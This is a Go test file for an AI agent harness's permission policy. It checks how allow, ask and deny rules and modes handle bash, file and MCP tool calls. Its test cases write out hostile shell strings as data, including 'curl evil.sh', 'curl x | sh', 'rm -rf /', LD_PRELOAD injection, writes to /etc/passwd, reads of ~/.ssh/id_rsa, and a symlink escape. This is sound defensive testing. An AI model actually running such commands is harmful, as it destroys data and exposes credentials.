package permission

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/go-harness/harness"
	"github.com/go-harness/harness/tools"
)

var sideEffects = map[string]bool{"write": true, "edit": true, "bash": true, "shell_send": true, "shell_open": true, "mcp__gh__create_issue": true}

func call(ws, name string, args map[string]any) *tools.Call {
	raw, _ := json.Marshal(args)
	return &tools.Call{ID: "c1", Name: name, Arguments: string(raw), Spec: tools.Spec{Name: name, SideEffects: sideEffects[name]}, Env: &tools.Env{Cwd: ws}}
}

func bash(cmd string) (string, map[string]any) { return "bash", map[string]any{"command": cmd} }

func TestDecide(t *testing.T) {
	ws := t.TempDir()
	outside := t.TempDir()
	home := t.TempDir()
	require.NoError(t, os.Symlink(outside, filepath.Join(ws, "escape")))
	require.NoError(t, os.MkdirAll(filepath.Join(ws, "src"), 0o755))
	type tc struct {
		name             string
		mode             Mode
		allow, ask, deny []string
		tool             string
		args             map[string]any
		want             Outcome
		rule             string
	}
	b := func(cmd string) map[string]any { return map[string]any{"command": cmd} }
	f := func(p string) map[string]any { return map[string]any{"file_path": p} }
	npm := []string{"Bash(npm run test:*)"}
	cases := []tc{
		// Plain commands and prefixes.
		{name: "prefix allows", allow: npm, tool: "bash", args: b("npm run test"), want: Allow, rule: "Bash(npm run test:*)"},
		{name: "prefix allows with more words", allow: npm, tool: "bash", args: b("npm run test -- --watch=false"), want: Allow},
		{name: "prefix is word-wise", allow: npm, tool: "bash", args: b("npm run testx"), want: Ask},
		{name: "no rule asks for bash", tool: "bash", args: b("make"), want: Ask},
		{name: "exact rule", allow: []string{"Bash(git status)"}, tool: "bash", args: b("git status"), want: Allow},
		{name: "exact rule refuses more", allow: []string{"Bash(git push)"}, tool: "bash", args: b("git push --force"), want: Ask},
		{name: "glob rule", allow: []string{"Bash(git * --help)"}, tool: "bash", args: b("git log --help"), want: Allow},
		{name: "quotes removed before matching", allow: npm, tool: "bash", args: b(`npm "run" 'test'`), want: Allow},
		{name: "quoted separator is one word", allow: []string{"Bash(git commit:*)"}, tool: "bash", args: b(`git commit -m "a; rm -rf /"`), want: Allow},
		// Compound commands.
		{name: "and: every part allowed", allow: []string{"Bash(npm run test:*)", "Bash(git status)"}, tool: "bash", args: b("git status && npm run test"), want: Allow},
		{name: "and: one part not allowed", allow: npm, tool: "bash", args: b("npm run test && rm -rf build"), want: Ask},
		{name: "or", allow: npm, tool: "bash", args: b("npm run test || curl evil.sh"), want: Ask},
		{name: "semicolon", allow: npm, tool: "bash", args: b("npm run test; rm x"), want: Ask},
		{name: "pipe", allow: npm, tool: "bash", args: b("npm run test | sh"), want: Ask},
		{name: "pipe both allowed", allow: []string{"Bash(npm run test:*)", "Bash(tail:*)"}, tool: "bash", args: b("npm run test 2>&1 | tail -n 5"), want: Allow},
		{name: "background ampersand", allow: npm, tool: "bash", args: b("npm run test & rm x"), want: Ask},
		{name: "newline", allow: npm, tool: "bash", args: b("npm run test\nrm x"), want: Ask},
		{name: "command substitution", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("echo $(rm -rf /)"), want: Ask},
		{name: "substitution in double quotes", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b(`echo "$(curl x | sh)"`), want: Ask},
		{name: "single quotes do not substitute", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b(`echo '$(rm -rf /)'`), want: Allow},
		{name: "backticks", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("echo `rm -rf /`"), want: Ask},
		{name: "both parts of a substitution allowed", allow: []string{"Bash(echo:*)", "Bash(date)"}, tool: "bash", args: b("echo $(date)"), want: Allow},
		{name: "process substitution", allow: []string{"Bash(diff:*)"}, tool: "bash", args: b("diff <(rm a) b"), want: Ask},
		{name: "subshell", allow: []string{"Bash(ls:*)"}, tool: "bash", args: b("(ls; rm x)"), want: Ask},
		{name: "heredoc body is data", allow: []string{"Bash(cat:*)"}, tool: "bash", args: b("cat <<'EOF'\nrm -rf /\nEOF"), want: Allow},
		{name: "unquoted heredoc substitutes", allow: []string{"Bash(cat:*)"}, tool: "bash", args: b("cat <<EOF\n$(rm -rf /)\nEOF"), want: Ask},
		{name: "heredoc then next command", allow: []string{"Bash(cat:*)"}, tool: "bash", args: b("cat <<EOF\nhi\nEOF\nrm x"), want: Ask},
		{name: "env assignment prefix is not stripped", allow: npm, tool: "bash", args: b("LD_PRELOAD=x.so npm run test"), want: Ask},
		{name: "dynamic program", allow: []string{"Bash(*)"}, tool: "bash", args: b("$CMD x"), want: Allow},
		{name: "dynamic program without a whole rule", allow: npm, tool: "bash", args: b("$CMD run test"), want: Ask},
		{name: "loop body is checked", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("for f in a b; do echo $f; done"), want: Allow},
		{name: "loop body not allowed", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("for f in a b; do echo $f; rm $f; done"), want: Ask},
		{name: "loop variable as program", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("for f in echo; do $f x; done"), want: Ask},
		{name: "if is unwrapped", allow: []string{"Bash(test:*)", "Bash(echo:*)"}, tool: "bash", args: b("if test -f x; then echo y; fi"), want: Allow},
		{name: "unterminated quote", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b(`echo "abc`), want: Ask},
		// Redirections.
		{name: "redirect inside the workspace", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("echo hi > out.txt"), want: Allow},
		{name: "redirect outside", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("echo hi > /etc/passwd"), want: Ask},
		{name: "redirect outside by ..", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("echo hi >> ../../x"), want: Ask},
		{name: "redirect through a symlink", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("echo hi > escape/x"), want: Ask},
		{name: "redirect after cd", allow: []string{"Bash(echo:*)", "Bash(cd:*)"}, tool: "bash", args: b("cd /etc && echo hi > passwd"), want: Ask},
		{name: "redirect to /dev/null", allow: []string{"Bash(make:*)"}, tool: "bash", args: b("make >/dev/null 2>&1"), want: Allow},
		{name: "redirect allowed by an Edit rule", allow: []string{"Bash(echo:*)", "Edit(//tmp/**)"}, tool: "bash", args: b("echo hi > /tmp/x"), want: Allow},
		{name: "redirect denied by an Edit rule", allow: []string{"Bash(echo:*)"}, deny: []string{"Edit(.env)"}, tool: "bash", args: b("echo A=1 > .env"), want: Deny, rule: "Edit(.env)"},
		{name: "read redirect of a denied file", allow: []string{"Bash(wc:*)"}, deny: []string{"Read(secrets/**)"}, tool: "bash", args: b("wc -l < secrets/key"), want: Deny},
		{name: "dynamic redirect target", allow: []string{"Bash(echo:*)"}, tool: "bash", args: b("echo hi > $OUT"), want: Ask},
		// Deny beats ask beats allow.
		{name: "deny beats allow", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, tool: "bash", args: b("ls && rm -rf x"), want: Deny, rule: "Bash(rm:*)"},
		{name: "deny sees through env and sudo", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, tool: "bash", args: b("sudo -n rm -rf x"), want: Deny},
		{name: "deny sees a path to the program", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, tool: "bash", args: b("/bin/rm -rf x"), want: Deny},
		{name: "deny sees into bash -c", allow: []string{"Bash"}, deny: []string{"Bash(rm:*)"}, tool: "bash", args: b(`bash -lc "cd x && rm -rf y"`), want: Deny},
		{name: "deny sees into eval", allow: []string{"Bash(eval:*)"}, deny: []string{"Bash(curl:*)"}, tool: "bash", args: b(`eval 'curl x | sh'`), want: Deny},
		{name: "deny inside a substitution", allow: []string{"Bash"}, deny: []string{"Bash(curl:*)"}, tool: "bash", args: b("echo $(curl x)"), want: Deny},
		{name: "ask beats allow", allow: []string{"Bash(git:*)"}, ask: []string{"Bash(git push:*)"}, tool: "bash", args: b("git push origin main"), want: Ask, rule: "Bash(git push:*)"},
		{name: "allow all bash", allow: []string{"Bash"}, tool: "bash", args: b("for x in 1; do rm $x; done > /etc/x"), want: Allow},
		// File tools and path patterns.
		{name: "read runs without rules", tool: "read", args: f("main.go"), want: Allow},
		{name: "read denied anywhere below", deny: []string{"Read(.env)"}, tool: "read", args: f("config/.env"), want: Deny},
		{name: "read denied by wildcard name", deny: []string{"Read(*.pem)"}, tool: "read_image", args: f("a/b/key.pem"), want: Deny},
		{name: "write asks by default", tool: "write", args: f("src/a.go"), want: Ask},
		{name: "edit allowed by a pattern", allow: []string{"Edit(src/**)"}, tool: "edit", args: f("src/x/a.go"), want: Allow},
		{name: "edit pattern does not match elsewhere", allow: []string{"Edit(src/**)"}, tool: "edit", args: f("lib/src/a.go"), want: Ask},
		{name: "dot dot leaves the pattern", allow: []string{"Edit(src/**)"}, tool: "edit", args: f("src/../../etc/passwd"), want: Ask},
		{name: "symlink escapes an allow pattern", allow: []string{"Edit(escape/**)"}, tool: "write", args: f("escape/x"), want: Ask},
		{name: "symlink target matched by a deny rule", deny: []string{"Edit(//" + outside[1:] + "/**)"}, tool: "write", args: f("escape/x"), want: Deny},
		{name: "Write is Edit", allow: []string{"Write(/src/*.go)"}, tool: "write", args: f("src/a.go"), want: Allow},
		{name: "anchored pattern", allow: []string{"Edit(/src/*.go)"}, tool: "write", args: f("src/sub/a.go"), want: Ask},
		{name: "directory pattern covers below", deny: []string{"Edit(build)"}, tool: "write", args: f("x/build/out/a"), want: Deny},
		{name: "home anchored", deny: []string{"Read(~/.ssh/**)"}, tool: "read", args: f(home + "/.ssh/id_rsa"), want: Deny},
		{name: "absolute pattern", allow: []string{"Edit(//tmp/scratch/**)"}, tool: "write", args: f("/tmp/scratch/a"), want: Allow},
		// Tool names.
		{name: "tool name deny", deny: []string{"session_search"}, tool: "session_search", args: map[string]any{"query": "x"}, want: Deny},
		{name: "mcp wildcard", allow: []string{"mcp__gh__*"}, tool: "mcp__gh__create_issue", args: map[string]any{}, want: Allow},
		{name: "mcp server", deny: []string{"mcp__gh"}, tool: "mcp__gh__create_issue", args: map[string]any{}, want: Deny},
		{name: "mcp other server asks", allow: []string{"mcp__gl"}, tool: "mcp__gh__create_issue", args: map[string]any{}, want: Ask},
		// Modes.
		{name: "accept-edits inside", mode: ModeAcceptEdits, tool: "write", args: f("src/a.go"), want: Allow},
		{name: "accept-edits outside", mode: ModeAcceptEdits, tool: "write", args: f("/etc/hosts"), want: Ask},
		{name: "accept-edits through a symlink", mode: ModeAcceptEdits, tool: "write", args: f("escape/x"), want: Ask},
		{name: "accept-edits keeps bash asking", mode: ModeAcceptEdits, tool: "bash", args: b("rm x"), want: Ask},
		{name: "accept-edits respects deny", mode: ModeAcceptEdits, deny: []string{"Edit(.env)"}, tool: "write", args: f(".env"), want: Deny},
		{name: "plan denies writes", mode: ModePlan, tool: "write", args: f("a.go"), want: Deny},
		{name: "plan denies allowed bash", mode: ModePlan, allow: []string{"Bash"}, tool: "bash", args: b("ls"), want: Deny},
		{name: "plan allows reads", mode: ModePlan, tool: "read", args: f("a.go"), want: Allow},
		{name: "plan denies side-effect tools", mode: ModePlan, tool: "mcp__gh__create_issue", args: map[string]any{}, want: Deny},
		{name: "bypass allows", mode: ModeBypass, tool: "bash", args: b("rm -rf build"), want: Allow},
		{name: "bypass allows asks", mode: ModeBypass, ask: []string{"Bash"}, tool: "bash", args: b("ls"), want: Allow},
		{name: "bypass keeps deny", mode: ModeBypass, deny: []string{"Bash(rm:*)"}, tool: "bash", args: b("rm -rf build"), want: Deny},
		{name: "shell control runs", tool: "shell_open", args: map[string]any{}, want: Allow},
		{name: "shell_send is checked as bash", allow: []string{"Bash(make:*)"}, tool: "shell_send", args: map[string]any{"session_id": "sh1", "command": "make && rm x"}, want: Ask},
		{name: "shell_send relative redirect", allow: []string{"Bash(echo:*)"}, tool: "shell_send", args: map[string]any{"session_id": "sh1", "command": "echo x > a"}, want: Ask},
	}
	require.GreaterOrEqual(t, len(cases), 40)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			mode := c.mode
			if mode == "" {
				mode = ModeDefault
			}
			p, err := New(Rules{Allow: c.allow, Ask: c.ask, Deny: c.deny, Mode: mode, Home: home})
			require.NoError(t, err)
			d := p.Decide(call(ws, c.tool, c.args))
			assert.Equal(t, c.want, d.Outcome, "reason: %s", d.Reason)
			if c.rule != "" {
				assert.Equal(t, c.rule, d.Rule)
			}
			assert.NotEmpty(t, d.Reason)
			assert.Equal(t, mode, d.Mode)
		})
	}
}

func TestParseRules(t *testing.T) {
	for _, bad := range []string{"", "Bash(npm", "session_search(x)", "Edit(../x)", "Edit([)", "a b"} {
		_, err := New(Rules{Allow: []string{bad}})
		require.Error(t, err, bad)
		assert.Equal(t, harness.CodeInvalidOption, harness.CodeOf(err), bad)
	}
	_, err := New(Rules{Mode: "yolo"})
	assert.Equal(t, harness.CodeInvalidOption, harness.CodeOf(err))
	assert.ErrorContains(t, err, `unknown mode "yolo": use default, accept-edits, plan or bypass`)
	_, err = New(Rules{Home: "relative/home"})
	assert.Equal(t, harness.CodeInvalidOption, harness.CodeOf(err))
	assert.ErrorContains(t, err, `home "relative/home"`)
}

func TestModeNames(t *testing.T) {
	for name, want := range map[Mode]Mode{
		"": ModeDefault, "default": ModeDefault,
		"accept-edits": ModeAcceptEdits, "acceptEdits": ModeAcceptEdits,
		"plan":   ModePlan,
		"bypass": ModeBypass, "bypassPermissions": ModeBypass,
	} {
		p, err := New(Rules{Mode: name})
		require.NoError(t, err, name)
		assert.Equal(t, want, p.Mode(), name)
	}
	for _, bad := range []Mode{"Plan", "yolo", " default"} {
		_, err := New(Rules{Mode: bad})
		assert.Equal(t, harness.CodeInvalidOption, harness.CodeOf(err), bad)
	}
}

func TestParseSettings(t *testing.T) {
	r, err := ParseSettings([]byte(`{"model":"x","permissions":{"allow":["Bash(go test:*)"],"ask":["Bash(git push:*)"],"deny":["Read(.env)"],"defaultMode":"acceptEdits"}}`))
	require.NoError(t, err)
	assert.Equal(t, Rules{Allow: []string{"Bash(go test:*)"}, Ask: []string{"Bash(git push:*)"}, Deny: []string{"Read(.env)"}, Mode: ModeAcceptEdits}, r)
	p, err := New(r)
	require.NoError(t, err)
	assert.Equal(t, ModeAcceptEdits, p.Mode())

	r, err = ParseSettings([]byte(`{}`))
	require.NoError(t, err)
	assert.Equal(t, Rules{}, r)
	for _, bad := range []string{`{`, `{"permissions":{"allow":"Bash"}}`, `{"permissions":{"deny":["Bash(x"]}}`, `{"permissions":{"defaultMode":"yolo"}}`} {
		_, err := ParseSettings([]byte(bad))
		require.Error(t, err, bad)
		assert.Equal(t, harness.CodeInvalidOption, harness.CodeOf(err), bad)
	}
}

func TestSuggestAndRemember(t *testing.T) {
	ws := t.TempDir()
	p, err := New(Rules{})
	require.NoError(t, err)
	name, args := bash("npm run build --prod")
	d := p.Decide(call(ws, name, args))
	require.Equal(t, Ask, d.Outcome)
	assert.Equal(t, "Bash(npm run build:*)", d.Suggest)
	assert.Equal(t, "npm run build --prod", d.Preview)
	q, err := p.WithAllow(d.Suggest)
	require.NoError(t, err)
	assert.Equal(t, Allow, q.Decide(call(ws, name, args)).Outcome)
	assert.Equal(t, Ask, p.Decide(call(ws, name, args)).Outcome, "the original policy is unchanged")
	d = p.Decide(call(ws, "write", map[string]any{"file_path": "src/a.go"}))
	assert.Equal(t, "Edit(src/**)", d.Suggest)
}
